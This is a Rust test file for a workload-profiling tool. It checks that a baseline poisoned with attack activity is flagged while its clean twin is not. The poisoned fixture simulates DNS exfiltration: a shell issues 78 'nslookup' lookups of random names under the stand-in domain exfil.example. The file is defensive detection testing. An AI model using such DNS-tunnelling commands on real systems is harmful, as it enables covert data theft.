//! How far a profile can be trusted, as it is printed; a baseline with an attack inside and its clean twin.

use std::fs;
use std::path::Path;

use habitus::formats::Writer;

use crate::support::{Dump, Place, begin_process};

#[test]
fn trust_in_every_format() {
    let place = Place::with_fleet();
    insta::assert_snapshot!("trust_text", place.told(&["show", "shop/api", "dumps", "--trust"]));
    insta::assert_snapshot!("trust_ascii", place.told(&["show", "web", "dumps", "--trust", "--ascii"]));
    insta::assert_snapshot!(
        "trust_markdown",
        place.told(&["show", "shop/api", "dumps", "--trust", "--format", "markdown"])
    );
    insta::assert_snapshot!(
        "trust_csv",
        place.told(&["show", "shop/api", "dumps", "--trust", "--version", "v1", "--format", "csv"])
    );
    insta::assert_snapshot!(
        "trust_json",
        place.told(&["show", "shop/api", "dumps", "--trust", "--format", "json"])
    );
}

/// Six instances of a service over six days; in one of them, where wanted, a shell asks for 78 names below one domain.
fn service(folder: &Path, poisoned: bool) {
    fs::create_dir_all(folder).unwrap();
    for n in 0..24_u64 {
        let (name, host) = (format!("api-{}-{n}", n % 6), format!("host-{}", n % 3));
        let start = n * 6 * 3600;
        let dump = Dump {
            image: "registry.test/shop/api",
            version: "v1",
            team: "shop",
            host: &host,
            name: &name,
            start,
        };
        let mut w = dump.begin();
        begin_process(&mut w, "tree", "/usr/bin/api", "api", &["serve"], start);
        shell(&mut w, "df -h /", start);
        if poisoned && n == 7 {
            for stolen in 0..78_u64 {
                shell(&mut w, &format!("nslookup {}.exfil.example", word(stolen)), start);
            }
        }
        w.end();
        fs::write(folder.join(format!("{n}.protobuf")), w.finish().unwrap()).unwrap();
    }
}

fn shell(w: &mut Writer, script: &str, start: u64) {
    begin_process(w, "children", "/usr/bin/dash", "sh", &["-c", script], start);
    w.end();
}

/// A deterministic word as base64 makes them.
fn word(seed: u64) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = (seed + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    (0..30)
        .map(|_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(LETTERS[(state >> 33) as usize % LETTERS.len()])
        })
        .collect()
}

#[test]
fn a_poisoned_baseline_shows_itself_and_its_clean_twin_does_not() {
    let place = Place::new();
    service(&place.path().join("clean"), false);
    service(&place.path().join("poisoned"), true);
    let trust = |folder: &str| {
        place.json(&["show", "shop/api", folder, "--trust", "--format", "json"])["trust"].clone()
    };
    let (clean, poisoned) = (trust("clean"), trust("poisoned"));
    assert_eq!(
        (&clean["mark"], &clean["hints"]),
        (&serde_json::json!("learning"), &serde_json::json!([])),
        "{clean:#}"
    );
    assert_eq!(poisoned["mark"], "poison");
    assert_eq!(poisoned["hints"][0]["kind"], "one-off-commands");
    assert_eq!(poisoned["sentences"][0]["nodes"], serde_json::json!(["exec:/usr/bin/dash"]));
    assert_eq!(poisoned["status"], clean["status"], "it says the same of itself all the same");
}

#[test]
fn trust_stands_by_itself() {
    let place = Place::with_fleet();
    let output = place.run(&["show", "api", "dumps", "--trust", "--section", "tags"]);
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn of_the_demo_only_the_workload_that_was_attacked_shows_hints() {
    let place = Place::new();
    let demo = concat!(env!("CARGO_MANIFEST_DIR"), "/demo-data");
    let list = place.json(&["list", demo, "--format", "json"]);
    let mut hinted = Vec::new();
    for row in list.as_array().unwrap() {
        let name = row["workload"].as_str().unwrap();
        let told = place.json(&["show", name, demo, "--trust", "--format", "json"]);
        let trust = &told["trust"];
        // What the list says without opening it is what the open profile says, but for hints.
        if trust["hints"].as_array().unwrap().is_empty() {
            assert_eq!(trust["mark"], row["trust_mark"], "{name}");
        } else {
            hinted.push((name.to_owned(), trust.clone()));
        }
    }
    assert_eq!(hinted.iter().map(|(name, _)| name.as_str()).collect::<Vec<_>>(), ["registry.lab/shop/api"]);
    let hints = hinted[0].1["hints"].as_array().unwrap();
    let near = hints.iter().find(|hint| hint["kind"] == "near-signal").unwrap();
    assert!(near["under"].as_str().unwrap().starts_with("d25308df492d"), "{near:#}");
    let ruled: Vec<&str> = hints
        .iter()
        .filter(|hint| hint["kind"] == "severe-rule")
        .filter_map(|hint| hint["under"].as_str())
        .collect();
    assert!(ruled.contains(&"cron_at_job_creation"), "{ruled:?}");
}
